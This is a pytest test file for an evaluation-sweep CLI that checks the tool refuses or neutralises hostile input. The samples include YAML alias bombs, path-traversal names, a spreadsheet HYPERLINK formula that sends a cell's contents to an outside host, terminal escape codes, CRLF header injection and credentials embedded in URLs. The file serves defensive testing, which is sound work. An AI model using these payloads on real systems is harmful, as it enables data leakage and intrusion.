"""Case by case: every bad or hostile input seen is bounded, confined, escaped, one line.

Each test is named after what was seen; the fuzz test (tests/test_hostile_input.py)
covers the same ground with generated input.
"""

from __future__ import annotations

import errno
import json
import os
import shutil
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import yaml
from typer.testing import CliRunner

from runner.cli.app import app
from runner.core.safety import csv_cell, safe_filename, term_text
from tests.helpers import CONFIGS, invoke_error_line, quickstart_dict, write_yaml

cli = CliRunner()


def quickstart(tmp_path: Path, **changes: Any) -> dict[str, Any]:
    data = quickstart_dict()
    data["probes"][0]["runs"] = 1  # every check here is on names, paths and text: one run per cell shows them all
    data.update(changes)
    return data


# -- unbounded input ----------------------------------------------------------------------------------------------

def alias_bomb(levels: int = 9, width: int = 9) -> str:
    lines = ["a0: &a0 [x, x, x, x, x, x, x, x, x]"]
    for i in range(1, levels):
        lines.append(f"a{i}: &a{i} [{', '.join(f'*a{i - 1}' for _ in range(width))}]")
    return "\n".join(lines) + "\n"


def test_alias_bomb_sweep_is_refused_fast(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Refused by work on the 91 nodes written, never on the 9**9 they expand to: counted, not timed."""
    from runner.core import sources

    visits = 0
    children = sources._children

    def counted(node: Any) -> Any:
        nonlocal visits
        visits += 1
        assert visits <= 1_000, "the alias check walks the expansion, not the nodes written"
        return children(node)

    monkeypatch.setattr(sources, "_children", counted)
    path = write_yaml(tmp_path / "bomb.yaml", "name: b\n" + alias_bomb())
    line = invoke_error_line(cli.invoke(app, ["validate", str(path)]))
    assert "aliases expand" in line and "bomb.yaml" in line
    assert 0 < visits <= 4 * 92  # each written node (+ the top mapping) looked at a bounded number of times


def test_alias_bomb_under_params_is_refused(tmp_path: Path) -> None:
    bomb = alias_bomb().replace("\n", "\n    ")
    text = ("name: b\nmodels:\n  - name: m\n    provider: sim\n    model: typical\n    params:\n    " + bomb
            + "\nprobes:\n  - kind: misselection\n")
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "p.yaml", text))]))
    assert "aliases expand" in line


def test_dev_zero_is_not_read() -> None:
    line = invoke_error_line(cli.invoke(app, ["validate", "/dev/zero"]))
    assert "device" in line


def test_oversized_sweep_names_the_cap_and_the_variable(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRIALGRID_MAX_INPUT_MB", "0.001")
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", "name: x\n" + "#" * 2000))]))
    assert "input cap" in line and "TRIALGRID_MAX_INPUT_MB" in line


def test_deep_nesting_is_refused_not_a_crash(tmp_path: Path) -> None:
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "d.yaml", "[" * 200_000))]))
    assert "nests deeper" in line


# -- path escape on write -----------------------------------------------------------------------------------------

def phantom_sweep(tmp_path: Path, probe_name: str, model: str = "sim-typical") -> Path:
    return write_yaml(tmp_path / "ph.yaml", {
        "name": "ph", "seed": 1,
        "models": [{"name": model, "provider": "sim", "model": "typical"},
                   {"name": "auditor-balanced", "provider": "sim", "model": "auditor-balanced"}],
        "probes": [{"kind": "phantom", "name": probe_name, "traces": str(CONFIGS / "phantom" / "traces.yaml"),
                    "runs": 1}]})


@pytest.mark.parametrize("probe_name", ["../../../x", "/tmp/trialgrid-abs/x", "nosuchdir/x"])
def test_probe_name_never_writes_outside_the_output(tmp_path: Path, probe_name: str) -> None:
    work = tmp_path / "a" / "b" / "c"
    work.mkdir(parents=True)
    out = work / "out"
    result = cli.invoke(app, ["run", str(phantom_sweep(work, probe_name)), "--out", str(out), "-q"])
    assert result.exit_code == 0, result.output
    report = cli.invoke(app, ["report", str(out), "--csv", str(work / "csv")])
    assert report.exit_code == 0, report.output
    outside = [p for p in tmp_path.rglob("*") if p.is_file() and out not in p.parents and work / "csv" not in p.parents
               and p.parent != work]
    assert outside == [] and not Path("/tmp/trialgrid-abs").exists()
    assert len(list((work / "csv").glob("*.disagreements.jsonl"))) == 1  # the listing goes beside --csv
    assert all("/" not in p.name for p in (work / "csv").iterdir())


# -- spreadsheet and terminal injection ---------------------------------------------------------------------------

FORMULA = '=HYPERLINK("http://example.invalid/"&A1,"click")'


def test_formula_model_names_are_neutralised_in_every_csv(tmp_path: Path) -> None:
    data = quickstart(tmp_path)
    data["models"][0]["name"] = FORMULA
    out = tmp_path / "out"
    assert cli.invoke(app, ["run", str(write_yaml(tmp_path / "s.yaml", data)), "--out", str(out), "-q"]).exit_code == 0
    assert cli.invoke(app, ["report", str(out), "-q", "--csv", str(tmp_path / "csv")]).exit_code == 0
    for name in ("models.csv", "leaderboard.csv", "cells.csv"):
        frame = pl.read_csv(tmp_path / "csv" / name, infer_schema_length=0)
        cells = [v for col in frame.columns for v in frame[col].drop_nulls().to_list()]
        assert "'" + FORMULA in cells, name
        assert not any(v.startswith(("=", "+", "@")) for v in cells), name


@pytest.mark.parametrize(("value", "shown"), [("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-2+3", "'-2+3"),
                                              ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
                                              ("-1.5", "-1.5"), ("+3e4", "+3e4"), ("plain", "plain"), (3, 3)])
def test_csv_cell(value: object, shown: object) -> None:
    assert csv_cell(value) == shown


def test_terminal_controls_in_a_model_name_are_shown_escaped(tmp_path: Path) -> None:
    data = quickstart(tmp_path)
    data["models"][0]["name"] = "evil[bold]x[/]"  # markup must stay text, and not crash rich
    out = tmp_path / "out"
    assert cli.invoke(app, ["run", str(write_yaml(tmp_path / "s.yaml", data)), "--out", str(out), "-q"]).exit_code == 0
    report = cli.invoke(app, ["report", str(out)])
    assert report.exit_code == 0 and "evil[bold]x[/]" in report.output
    # a manifest someone else wrote can hold any label: controls must never reach the terminal raw
    manifest = json.loads((out / "manifest.json").read_text())
    text = json.dumps(manifest).replace("sim-typical", "\\u001b]0;TITLE\\u0007\\u001b[2J")
    (out / "manifest.json").write_text(text)
    assert "\x1b" not in term_text("\x1b]0;TITLE\x07\x1b[2J") and "\\x1b" in term_text("\x1b")
    report = cli.invoke(app, ["report", str(out)])
    assert "\x1b]0;" not in report.output and "\x07" not in report.output


def test_a_control_character_in_a_label_is_refused_at_validation(tmp_path: Path) -> None:
    data = quickstart(tmp_path)
    data["models"][0]["name"] = "x\x1b[2Jy"
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))]))
    assert "control character" in line and "\x1b" not in line


# -- data loss ----------------------------------------------------------------------------------------------------

def trials_csv(path: Path, rows: int = 12) -> Path:
    pl.DataFrame({"case": [f"c{i % 4}" for i in range(rows)], "cond": ["a", "b"] * (rows // 2),
                  "hit": [i % 2 for i in range(rows)]}).write_csv(path)
    return path


TRIALS_ARGS = ["--model-name", "m", "--cluster", "case", "--condition", "cond", "--outcome", "hit"]


def test_import_trials_force_with_bad_input_keeps_the_existing_run(tmp_path: Path) -> None:
    out = tmp_path / "run"
    good = cli.invoke(app, ["import", "trials", str(trials_csv(tmp_path / "t.csv")), "--out", str(out), *TRIALS_ARGS])
    assert good.exit_code == 0, good.output
    before = sorted(p.relative_to(out) for p in out.rglob("*"))
    bad = tmp_path / "bad.csv"
    bad.write_text("case,cond,hit\nc1,a,maybe\n")
    invoke_error_line(cli.invoke(app, ["import", "trials", str(bad), "--out", str(out), "--force", *TRIALS_ARGS]))
    assert sorted(p.relative_to(out) for p in out.rglob("*")) == before
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".run.")] == []  # no half-built sibling left
    again = cli.invoke(app, ["import", "trials", str(trials_csv(tmp_path / "t2.csv", 20)), "--out", str(out),
                             "--force", *TRIALS_ARGS])
    assert again.exit_code == 0 and "20 trials" in again.output
    assert cli.invoke(app, ["report", str(out), "-q"]).exit_code == 0


def test_import_agentprop_force_with_bad_input_keeps_the_existing_run(tmp_path: Path) -> None:
    out = tmp_path / "run"
    out.mkdir()
    (out / "manifest.json").write_text("{}")
    (out / "trials").mkdir()
    (out / "trials" / "part.arrow").write_bytes(b"precious")
    src = tmp_path / "src"
    src.mkdir()
    (src / "p2_all_rejudged.csv").write_text("nothing,useful\n1,2\n")
    invoke_error_line(cli.invoke(app, ["import", "agentprop", str(src), "--out", str(out), "--force"]))
    assert (out / "trials" / "part.arrow").read_bytes() == b"precious"


# -- one line where a traceback was ----------------------------------------------------------------------------------

def test_run_out_at_an_existing_file(tmp_path: Path) -> None:
    target = tmp_path / "file"
    target.write_text("x")
    line = invoke_error_line(cli.invoke(app, ["run", str(write_yaml(tmp_path / "s.yaml", quickstart(tmp_path))),
                                           "--out", str(target), "-q"]))
    assert "not a directory" in line


def test_run_out_under_proc(tmp_path: Path) -> None:
    line = invoke_error_line(cli.invoke(app, ["run", str(write_yaml(tmp_path / "s.yaml", quickstart(tmp_path))),
                                           "--out", "/proc/trialgrid-out", "-q"]))
    # refused before anything is tried there: the path, and why, in words
    assert line.startswith("error: /proc/trialgrid-out: the output directory lies in /proc"), line


def test_import_trials_out_at_an_existing_file(tmp_path: Path) -> None:
    target = tmp_path / "file"
    target.write_text("x")
    line = invoke_error_line(cli.invoke(app, ["import", "trials", str(trials_csv(tmp_path / "t.csv")), "--out",
                                           str(target), *TRIALS_ARGS]))
    assert "not a directory" in line and target.read_text() == "x"


def test_bfcl_entry_whose_question_is_not_a_list(tmp_path: Path) -> None:
    path = tmp_path / "BFCL_v4_irrelevance.json"
    path.write_text(json.dumps({"id": "irrelevance_0", "question": "what?", "function": []}) + "\n")
    line = invoke_error_line(cli.invoke(app, ["import", "bfcl", str(path), "--out", str(tmp_path / "o")]))
    assert "question" in line and ":1" in line


@pytest.mark.parametrize("which", ["stimuli", "tools"])
def test_ungrounded_binary_input(tmp_path: Path, which: str) -> None:
    stimuli = tmp_path / "stimuli.json"
    stimuli.write_text(json.dumps([{"ungroundable": "a", "groundable_known": "b", "expected_tool": "t"}]))
    tools = tmp_path / "tools.json"
    tools.write_text("[]")
    (stimuli if which == "stimuli" else tools).write_bytes(b"\x89PNG\r\n\x1a\n\xff\xfe\x00")
    line = invoke_error_line(cli.invoke(app, ["import", "ungrounded", str(stimuli), "--tools", str(tools),
                                           "--out", str(tmp_path / "o")]))
    assert "UTF-8" in line


def test_enospc_is_one_line(tmp_path: Path, quickstart_out: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import runner.reporting.summary_csv as summary_csv

    def full(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC), str(tmp_path / "csv" / "runs.csv"))

    monkeypatch.setattr(summary_csv, "write_csv", full)
    line = invoke_error_line(cli.invoke(app, ["report", str(quickstart_out), "-q", "--csv", str(tmp_path / "csv")]))
    assert "no space left" in line and "runs.csv" in line


def test_sigint_during_start_up_is_a_clean_exit(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import runner.config.sweep as sweep_module

    def interrupted(*args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(sweep_module, "load_sweep", interrupted)
    result = cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", quickstart(tmp_path)))])
    assert result.exit_code == 130 and "Traceback" not in result.output and "interrupted" in result.stderr


def test_a_finished_part_that_does_not_read(tmp_path: Path, quickstart_out: Path) -> None:
    out = tmp_path / "out"
    shutil.copytree(quickstart_out, out)
    part = next((out / "trials").glob("*.arrow"))
    part.write_bytes(part.read_bytes()[:200])
    line = invoke_error_line(cli.invoke(app, ["report", str(out), "-q"]))
    assert "does not read" in line or "manifest" in line


# -- surprises ----------------------------------------------------------------------------------------------------

def test_json_catalogue_with_an_escaped_emoji(tmp_path: Path) -> None:
    tools = json.loads((CONFIGS / "misselection" / "tools.json").read_text())
    tools[0]["function"]["description"] += " 😀"
    path = tmp_path / "tools.json"
    path.write_text(json.dumps(tools))  # ensure_ascii: the emoji is an escaped surrogate pair
    assert "\\ud83d" in path.read_text()
    data = quickstart(tmp_path)
    data["probes"][0]["catalogue"] = str(path)
    result = cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))])
    assert result.exit_code == 0, result.output


@pytest.mark.parametrize(("text", "needle"), [("seed: 010", "octal"), ("seed: true", "boolean"),
                                              ("seed: yes", "boolean"), ("seed: 1:30", "base-60")])
def test_yaml_1_1_numbers_are_refused(tmp_path: Path, text: str, needle: str) -> None:
    body = yaml.safe_dump({k: v for k, v in quickstart(tmp_path).items() if k != "seed"}, sort_keys=False)
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", text + "\n" + body))]))
    assert needle in line and "s.yaml:1" in line


def test_a_duplicate_key_names_both_lines(tmp_path: Path) -> None:
    data = quickstart(tmp_path)
    body = yaml.safe_dump(data, sort_keys=False).replace("  runs: 1\n", "  runs: 1\n  runs: 50\n")
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", body))]))
    assert "duplicate key 'runs'" in line
    first = body.splitlines().index("  runs: 1") + 1
    assert f"first on line {first}, again on line {first + 1}" in line


def quickstart_misselection_run(tmp_path: Path, names: list[str]) -> Path:
    data = quickstart(tmp_path)
    data["models"] = [{"name": n, "provider": "sim", "model": "typical"} for n in names]
    out = tmp_path / "out"
    assert cli.invoke(app, ["run", str(write_yaml(tmp_path / "s.yaml", data)), "--out", str(out), "-q"]).exit_code == 0
    return out


def test_badges_of_team_slash_model_and_team_dash_model_are_two_files(tmp_path: Path) -> None:
    out = quickstart_misselection_run(tmp_path, ["team/model", "team-model", "../up"])
    result = cli.invoke(app, ["report", str(out), "--badge", str(tmp_path / "badges")])  # (-q: prints nothing)
    assert result.exit_code == 0 and "wrote 3 badge(s)" in result.stderr
    assert len(list((tmp_path / "badges").glob("*.svg"))) == 3
    assert not (tmp_path / "up.svg").exists()


def mcp_sweep(tmp_path: Path, marker: Path) -> Path:
    data = quickstart(tmp_path)
    probe = data["probes"][0]
    del probe["catalogue"]
    probe["mcp_server"] = {"command": "sh", "args": ["-c", f"touch {marker}"], "timeout_s": 2}
    return write_yaml(tmp_path / "s.yaml", data)


def test_validate_does_not_start_the_server_a_sweep_names(tmp_path: Path) -> None:
    marker = tmp_path / "started"
    sweep = mcp_sweep(tmp_path, marker)
    result = cli.invoke(app, ["validate", str(sweep)])
    assert result.exit_code == 0 and not marker.exists()
    assert "not started" in result.stderr and "--start-servers" in result.stderr
    started = cli.invoke(app, ["validate", str(sweep), "--start-servers"])
    assert marker.exists() and started.exit_code == 2  # `touch` is no MCP server: a located error
    assert "starting the MCP server" in started.stderr


def test_run_prints_the_server_command_it_starts(tmp_path: Path) -> None:
    marker = tmp_path / "started"
    result = cli.invoke(app, ["run", str(mcp_sweep(tmp_path, marker)), "--out", str(tmp_path / "o"), "-q"])
    assert "starting the MCP server" in result.stderr and "touch" in result.stderr


@pytest.mark.parametrize(("path", "kind"), [("/dev/null", "device"), ("fifo", "FIFO")])
def test_device_and_fifo_case_paths_say_what_they_are(tmp_path: Path, path: str, kind: str) -> None:
    if path == "fifo":
        path = str(tmp_path / "fifo")
        os.mkfifo(path)
    data = quickstart(tmp_path)
    data["probes"][0]["cases"] = path
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))]))
    assert kind in line and "not found" not in line


def test_a_contrast_naming_a_missing_condition_is_an_error(tmp_path: Path) -> None:
    line = invoke_error_line(cli.invoke(app, ["import", "trials", str(trials_csv(tmp_path / "t.csv")), "--out",
                                           str(tmp_path / "o"), *TRIALS_ARGS, "--contrast", "x:hit:a:nosuch"]))
    assert "'nosuch'" in line


@pytest.mark.parametrize("url", ["http://127.0.0.1:/v1", "http://127.0.0.1:0/v1", "http://127.0.0.1:99999/v1",
                                 "http://:8000/v1"])
def test_base_url_with_an_empty_or_invalid_port(tmp_path: Path, url: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", "k")
    data = quickstart(tmp_path)
    data["models"] = [{"name": "m", "provider": "openai", "model": "gpt-x", "base_url": url}]
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))]))
    assert "base_url" in line and "Value error" not in line


def test_validate_lists_every_problem_and_a_misspelt_required_key(tmp_path: Path) -> None:
    data = quickstart(tmp_path)
    data["modles"] = data.pop("models")
    data["probes"][0]["runs"] = 0
    data["seed"] = -1
    result = cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))])
    assert result.exit_code == 2 and "Traceback" not in result.output
    lines = result.stderr.splitlines()
    assert len(lines) >= 4 and all(line.startswith("error: ") and "s.yaml:" in line for line in lines)
    text = "\n".join(lines)
    assert "did you mean 'models'" in text and "a misspelling of it" in text
    assert "probes[0].runs" in text and "seed" in text
    run = cli.invoke(app, ["run", str(tmp_path / "s.yaml"), "-q"])  # run: the first, and how many more
    assert "more problems" in invoke_error_line(run)


def test_safe_filename_is_injective_and_plain() -> None:
    labels = ["team/model", "team-model", "team_model", "..", ".", "", "a" * 300, "CON", "x-0123abcd", "/etc/passwd",
              "model", "Model", "é", "a\x00b"]
    names = [safe_filename(x) for x in labels]
    assert len(set(names)) == len(labels) and len({n.casefold() for n in names}) == len(labels)
    assert safe_filename("team-model") == "team-model" and safe_filename("sim-typical") == "sim-typical"
    # on macOS (APFS) and Windows, Model.svg and model.svg are one file: an upper-case label is hashed
    assert safe_filename("model") == "model" and safe_filename("Model").startswith("Model-")
    assert safe_filename("Model").casefold() != safe_filename("MODEL").casefold()
    assert all("/" not in n and "\x00" not in n and not n.startswith(".") and len(n) <= 100 for n in names)


def test_an_output_path_holding_rich_markup_is_printed_as_is(tmp_path: Path) -> None:
    """A path is text: ``[red]x[/]`` is neither a style nor a crash (``[/bold]`` closes nothing), nor a glob."""
    sweep = write_yaml(tmp_path / "s.yaml", quickstart(tmp_path))
    out = tmp_path / "o[red]x[/]y"
    result = cli.invoke(app, ["run", str(sweep), "--out", str(out), "--no-report"])
    assert result.exit_code == 0, (result.output, result.exception)
    assert f"output: {out}" in result.stderr
    assert cli.invoke(app, ["report", str(out), "-q"]).exit_code == 0  # the parts are read by name, not as a pattern
    dest = tmp_path / "n[/bold]"
    rescored = cli.invoke(app, ["rescore", str(out), "--out", str(dest)])
    assert rescored.exit_code == 0, (rescored.output, rescored.exception)
    assert f"rows into {dest}:" in rescored.stderr
    template = tmp_path / "t[bold]z[/].yaml"
    template.parent.mkdir(parents=True, exist_ok=True)
    written = cli.invoke(app, ["template", "misselection", "--out", str(template)])
    assert written.exit_code == 0 and f"wrote {template}" in written.stderr


# -- importers' tables: bounded like every other input ---------------------------------------------------------------

def test_a_trials_csv_over_the_cap_is_refused_by_its_size(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TRIALGRID_MAX_INPUT_MB", "0.01")
    line = invoke_error_line(cli.invoke(app, ["import", "trials", str(trials_csv(tmp_path / "t.csv", 2000)), "--out",
                                           str(tmp_path / "o"), *TRIALS_ARGS]))
    assert "input cap" in line and "TRIALGRID_MAX_INPUT_MB" in line and not (tmp_path / "o").exists()


def test_a_parquet_file_that_decodes_past_the_cap_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "t.parquet"
    pl.DataFrame({"case": ["c" * 1000] * 4000, "cond": ["a", "b"] * 2000, "hit": [1, 0] * 2000}).write_parquet(path)
    monkeypatch.setenv("TRIALGRID_MAX_INPUT_MB", "1")
    assert path.stat().st_size < 1 << 20  # small on disk: only its decoded size is over the cap
    line = invoke_error_line(cli.invoke(app, ["import", "trials", str(path), "--out", str(tmp_path / "o"), *TRIALS_ARGS]))
    assert "decodes to" in line and "input cap" in line


def test_a_trials_cell_longer_than_the_cell_cap_names_its_row_and_column(tmp_path: Path) -> None:
    path = tmp_path / "t.csv"
    path.write_text("case,cond,hit\nc,a,1\nc,b,\"" + "x" * (2 << 20) + "\"\n")
    line = invoke_error_line(cli.invoke(app, ["import", "trials", str(path), "--out", str(tmp_path / "o"), *TRIALS_ARGS]))
    assert "data row 2" in line and "'hit'" in line and "t.csv" in line


def test_a_trials_file_whose_path_holds_glob_characters_is_read_by_name(tmp_path: Path) -> None:
    folder = tmp_path / "x[1]*"
    folder.mkdir()
    result = cli.invoke(app, ["import", "trials", str(trials_csv(folder / "t?.csv")), "--out", str(tmp_path / "o"),
                              *TRIALS_ARGS])
    assert result.exit_code == 0 and "12 trials" in result.output


@pytest.mark.parametrize(("target", "kind"), [("fifo", "FIFO"), ("/dev/zero", "device")])
def test_an_agentprop_csv_that_is_no_file_is_named(tmp_path: Path, target: str, kind: str) -> None:
    src = tmp_path / "src"
    src.mkdir()
    if target == "fifo":
        os.mkfifo(src / "p2_all_rejudged.csv")
    else:
        (src / "p2_all_rejudged.csv").symlink_to(target)
    line = invoke_error_line(cli.invoke(app, ["import", "agentprop", str(src), "--out", str(tmp_path / "o")]))
    assert kind in line and "p2_all_rejudged.csv" in line  # was: skipped, "no AgentProp-Bench CSV found"


# -- settings that cannot work, refused at load (one line, exit 2), credentials never repeated -------------

KEY = "sk-hostile-0123456789abcdefXYZ"


def openai_model(**settings: Any) -> dict[str, Any]:
    return {"name": "m", "provider": "openai", "model": "gpt-x", "base_url": "http://127.0.0.1:9/v1", **settings}


@pytest.mark.parametrize(("settings", "needle"), [
    ({"base_url": "http://127.0.0.1:9/v1\nX-Injected: 1"}, "U+000A"),
    ({"base_url": "http://127.0.0.1:9/v1\x00"}, "U+0000"),
    ({"base_url": "http://127.0.0.1:9/v 1"}, "a space"),
    ({"base_url": "http://admin:hunter2pass@127.0.0.1:9/v1"}, "api_key_env"),
    ({"base_url": "http://127.0.0.1:9/v1?api_key=hunter2pass"}, "api_key_env"),
    ({"headers": {"X-Trace": "a\r\nX-Injected: 1"}}, "U+000D"),
    ({"headers": {"X Trace": "a"}}, "not a valid HTTP header name"),
    ({"headers": {"": "a"}}, "not a valid HTTP header name"),
    ({"headers": {"Content-Length": "5"}}, "set by trialgrid's HTTP client"),
    ({"headers": {"Host": "example.com"}}, "set by trialgrid's HTTP client"),
    ({"headers": {"Ocp-Apim-Subscription-Key": "hunter2pass"}}, "api_key_env"),
    ({"headers": {"X-Auth": "hunter2pass"}}, "api_key_env"),
    ({"headers": {"X-Auth-Token": "hunter2pass"}}, "api_key_env"),
    ({"headers": {"Proxy-Authorization": "hunter2pass"}}, "api_key_env"),
    ({"headers": {"X-Custom": "Bearer hunter2pass"}}, "api_key_env"),
    ({"headers": {"X-Custom": "basic aHVudGVyMnBhc3M="}}, "api_key_env"),
    ({"params": {"temperature": float("nan")}}, "NaN"),
    ({"params": {"top_p": float("inf")}}, "NaN or infinity"),
    ({"params": {"extra": {"deep": [1, float("-inf")]}}}, "params.extra.deep[1]"),
    ({"timeout_s": float("inf")}, "finite"),
    ({"retry": {"max_wait_s": float("nan")}}, "finite"),
    ({"limits": {"tpm": 1}}, "no request could ever be sent"),
    ({"limits": {"tpm": 100}, "params": {"max_tokens": 500}}, "no request could ever be sent"),
])
def test_a_setting_that_cannot_work_is_refused_at_load(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                       settings: dict[str, Any], needle: str) -> None:
    """Each was found only by sending (every trial an error row, or a hang), or was accepted and stored."""
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    data = quickstart(tmp_path, models=[openai_model(**settings)])
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))]))
    assert needle in line and "models[0]" in line and "s.yaml:" in line, line
    assert "hunter2pass" not in line and "aHVudGVyMnBhc3M" not in line and KEY not in line, line


def test_a_tpm_that_fits_a_request_is_accepted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("OPENAI_API_KEY", KEY)
    data = quickstart(tmp_path, models=[openai_model(limits={"tpm": 5000}, params={"max_tokens": 300},
                                                     headers={"X-Trace": "ok", "OpenAI-Organization": "org-1"})])
    result = cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", data))])
    assert result.exit_code == 0, result.output


def test_redact_url_hides_userinfo_and_query_secrets() -> None:
    from runner.providers.settings import redact_url

    assert redact_url("https://user:pw@host:8443/v1?api-version=2024&api_key=s3&sig=x#f") == \
        "https://host:8443/v1?api-version=2024&api_key=[redacted]&sig=[redacted]#f"
    assert redact_url("http://127.0.0.1:8000/v1") == "http://127.0.0.1:8000/v1"


@pytest.mark.parametrize("text", ["1: x\n", "? [a, b]\n: x\n", "yes: 1\n", "null: 1\n", "3.5: 1\n"])
def test_a_yaml_mapping_with_a_non_string_key(tmp_path: Path, text: str) -> None:
    sweep = write_yaml(tmp_path / "s.yaml", yaml.safe_dump(quickstart(tmp_path), sort_keys=False) + text)
    line = invoke_error_line(cli.invoke(app, ["validate", str(sweep)]))
    assert "is not a string" in line and "s.yaml:" in line, line


def test_a_non_string_key_in_a_nested_mapping_names_its_key_path(tmp_path: Path) -> None:
    data = quickstart(tmp_path)
    data.pop("engine", None)
    text = yaml.safe_dump(data, sort_keys=False) + "engine:\n  concurrency: 4\n  7: 1\n"
    line = invoke_error_line(cli.invoke(app, ["validate", str(write_yaml(tmp_path / "s.yaml", text))]))
    assert "'7' is not a string" in line and " engine: " in line, line


@pytest.mark.parametrize(("key", "value"), [("output", "out\x00x"), ("cache", "c\x00ache"), ("output", "o\x1b[2Jx"),
                                            ("output", "/proc/self/cwd/out"), ("cache", "/dev/shm/c"),
                                            ("output", "/sys/x")])
def test_an_output_or_cache_path_that_cannot_be_written_is_refused_at_load(tmp_path: Path, key: str,
                                                                             value: str) -> None:
    sweep = write_yaml(tmp_path / "s.yaml", quickstart(tmp_path, **{key: value}))
    for command in (["validate", str(sweep)], ["run", str(sweep), "-q"]):
        line = invoke_error_line(cli.invoke(app, command))
        assert f"{key}:" in line and ("control character" in line or "lies in /" in line), line
        assert "\x1b" not in line and "\x00" not in line


@pytest.mark.parametrize("flag", ["--out", "--cache"])
def test_proc_self_cwd_is_refused_on_the_command_line(tmp_path: Path, flag: str,
                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    """``/proc/self/cwd/out`` is the current directory by another name: the docs promise /proc exits 2."""
    monkeypatch.chdir(tmp_path)
    sweep = write_yaml(tmp_path / "s.yaml", quickstart(tmp_path))
    line = invoke_error_line(cli.invoke(app, ["run", str(sweep), "-q", flag, "/proc/self/cwd/x"]))
    assert "lies in /proc" in line
    assert not (tmp_path / "x").exists()


# -- no key of the sweep reaches anything written, whoever echoes it --------------------------

KEY_A = "sk-proj-A1b2C3d4E5f6G7h8I9j0K1l2M3n4"  # the openai model's
KEY_B = "sk-ant-api03-Zz9Yy8Xx7Ww6Vv5Uu4Tt3Ss2"  # the anthropic model's


def fragments(key: str, size: int = 8) -> set[bytes]:
    return {key[i:i + size].encode() for i in range(len(key) - size + 1)}


def test_no_key_or_fragment_reaches_output_cache_report_or_terminal(tmp_path: Path,
                                                                    monkeypatch: pytest.MonkeyPatch) -> None:
    """A server that echoes the request's key in its 200 answers and in its errors, two providers with different
    keys: neither key, nor any 8-character piece of one, in any file written or any line printed."""
    from tests.helpers import serving

    monkeypatch.setenv("TG_HOSTILE_KEY_A", KEY_A)
    monkeypatch.setenv("TG_HOSTILE_KEY_B", KEY_B)
    with serving(echo_key=True, faults={"500": 0.25}, fault_seed=3) as server:
        settings = {"base_url": server.base_url, "retry": {"max_attempts": 1}, "concurrency": 4}
        data = quickstart(tmp_path, models=[
            {"name": "gpt", "provider": "openai", "model": "typical", "api_key_env": "TG_HOSTILE_KEY_A", **settings},
            {"name": "claude", "provider": "anthropic", "model": "careful", "api_key_env": "TG_HOSTILE_KEY_B",
             **settings}])
        sweep = write_yaml(tmp_path / "s.yaml", data)
        out, cache, reports = tmp_path / "out", tmp_path / "cache", tmp_path / "reports"
        first = cli.invoke(app, ["run", str(sweep), "--out", str(out), "--cache", str(cache)])
        assert first.exit_code == 3, first.output  # the injected 500s are error rows, their messages echo keys
        retried = cli.invoke(app, ["run", str(sweep), "--out", str(out), "--cache", str(cache), "--retry-errors",
                                   "all"])
        stats = server.stats()
    assert stats["requests"] > 0 and stats["by_tag"].get("fault:500", 0) > 0, stats
    report = cli.invoke(app, ["report", str(out), "--json", str(reports / "s.json"), "--csv", str(reports / "csv"),
                              "--html", str(reports / "r.html")])
    assert report.exit_code == 0, report.output
    printed = "\n".join(r.stdout + r.stderr for r in (first, retried, report)).encode()
    pieces = fragments(KEY_A) | fragments(KEY_B)
    files = [p for root in (out, cache, reports) for p in root.rglob("*") if p.is_file()]
    assert any(p.suffix == ".arrow" for p in files) and any("sqlite" in p.name for p in files)
    leaks = [(str(p), piece) for p in files for piece in pieces if piece in p.read_bytes()]
    leaks += [("stdout/stderr", piece) for piece in pieces if piece in printed]
    assert leaks == []
    # and the echo was there to scrub: the rows say so where the key was
    assert b"[redacted]" in b"".join(p.read_bytes() for p in (out / "trials").glob("*.arrow"))


# -- writes outside the target; outputs and caches that are not what they seem --------------------------

@pytest.mark.parametrize("name", ["trials", ".trialgrid.lock", "manifest.json"])
def test_an_output_entry_linking_outside_is_refused(tmp_path: Path, name: str) -> None:
    out, elsewhere = tmp_path / "out", tmp_path / "elsewhere"
    out.mkdir()
    elsewhere.mkdir()
    target = elsewhere if name == "trials" else elsewhere / "file"
    (out / name).symlink_to(target)
    sweep = write_yaml(tmp_path / "s.yaml", quickstart(tmp_path))
    line = invoke_error_line(cli.invoke(app, ["run", str(sweep), "--out", str(out), "-q"]))
    assert "symbolic link" in line and name in line, line
    assert list(elsewhere.iterdir()) == []  # nothing written, nothing created through the link


